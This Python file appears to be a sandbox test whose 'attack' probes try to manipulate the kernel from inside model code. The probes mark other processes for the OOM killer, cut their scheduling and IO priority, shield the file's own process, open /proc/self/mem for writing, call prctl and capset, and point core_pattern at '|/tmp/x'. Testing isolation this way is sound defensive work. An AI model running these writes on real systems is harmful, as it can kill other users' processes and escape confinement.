"""Changes what the kernel knows of it and of others: memory written through /proc, who is killed first.  Harm: others
are chosen when memory is short."""

import ctypes
import os

from kit import Harmless, attack, others, system_call

HARM = ("bystander", "server", "worker")


def write(path, text):
    with open(path, "r+b", buffering=0) as file:
        return file.write(text)


for pid in others():
    attack(f"oom {pid}", lambda pid=pid: write(f"/proc/{pid}/oom_score_adj", b"1000"))
    attack(f"autogroup {pid}", lambda pid=pid: write(f"/proc/{pid}/autogroup", b"19"))
    attack(f"io priority {pid}", lambda pid=pid: system_call(251, 1, pid, 3 << 13))
attack("own oom", lambda: write("/proc/self/oom_score_adj", b"-1000"))
attack("own memory", lambda: os.open("/proc/self/mem", os.O_RDWR))
attack("dumpable", lambda: system_call(157, 4, 1, 0, 0, 0))
attack("no signal", lambda: system_call(157, 1, 0, 0, 0, 0))
attack("capabilities", lambda: system_call(126, ctypes.create_string_buffer(8), ctypes.create_string_buffer(24)))
attack("core pattern", lambda: write("/proc/sys/kernel/core_pattern", b"|/tmp/x"))


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
